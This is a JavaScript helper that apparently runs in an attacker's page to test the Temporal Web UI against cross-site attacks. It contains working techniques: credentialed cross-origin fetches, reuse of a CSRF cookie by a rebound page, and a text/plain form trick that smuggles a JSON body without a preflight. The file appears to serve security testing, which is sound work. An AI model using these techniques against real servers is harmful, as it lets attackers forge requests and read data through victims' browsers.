// Runs in the page of an attacker. Each attack tells the text that the page could read, or what an element told it.
const PATIENCE_MS = 10_000;

/** What fetch() gives the page: status 0 and no text where the browser keeps it from the page. */
async function tryFetch({ url, init }) {
  try {
    const response = await fetch(url, { credentials: 'include', signal: AbortSignal.timeout(PATIENCE_MS), ...init });
    return { status: response.status, text: await response.text() };
  } catch {
    return { status: 0, text: '' };
  }
}

/** The Web UI of Temporal gives its own pages a token in a cookie, which they send back. A rebound page reads that cookie. */
function withOwnToken(init = {}) {
  const token = /(?:^|; )_csrf=([^;]+)/.exec(document.cookie)?.[1];
  return token === undefined ? init : { ...init, headers: { ...init.headers, 'X-CSRF-TOKEN': token } };
}

function withElement(tag, attributes) {
  return new Promise((resolve) => {
    const element = Object.assign(document.createElement(tag), attributes);
    const end = (told) => {
      clearTimeout(timer);
      resolve(told);
    };
    const timer = setTimeout(() => end('nothing'), PATIENCE_MS);
    element.onload = () => end('load');
    element.onerror = () => end('error');
    document.body.append(element);
  });
}

/** A form can send any text: `{"a":1,"x":"` and `"}` stand around the sign between name and value. */
function tryForm({ url, json }) {
  const name = `frame-${Math.random()}`;
  const frame = Object.assign(document.createElement('iframe'), { name });
  const form = document.createElement('form');
  Object.assign(form, { action: url, method: 'post', enctype: 'text/plain', target: name });
  form.append(
    Object.assign(document.createElement('input'), {
      type: 'hidden',
      name: `${json.slice(0, -1)}${json === '{}' ? '' : ','}"x":"`,
      value: '"}',
    }),
  );
  return new Promise((resolve) => {
    const timer = setTimeout(resolve, PATIENCE_MS);
    document.body.append(frame, form);
    frame.onload = () => {
      clearTimeout(timer);
      resolve();
    };
    form.submit();
  });
}

globalThis.attacks = {
  fetchAll: (requests) => Promise.all(requests.map((one) => tryFetch({ ...one, init: withOwnToken(one.init) }))),
  loadAll: (tag, urls) => Promise.all(urls.map((src) => withElement(tag, { src }))),
  follow: (url) => {
    const link = Object.assign(document.createElement('a'), { href: url, textContent: 'a link' });
    document.body.append(link);
    // Afterwards, since the click ends this page.
    setTimeout(() => link.click());
  },
  formAll: (forms) => Promise.all(forms.map(tryForm)),
};
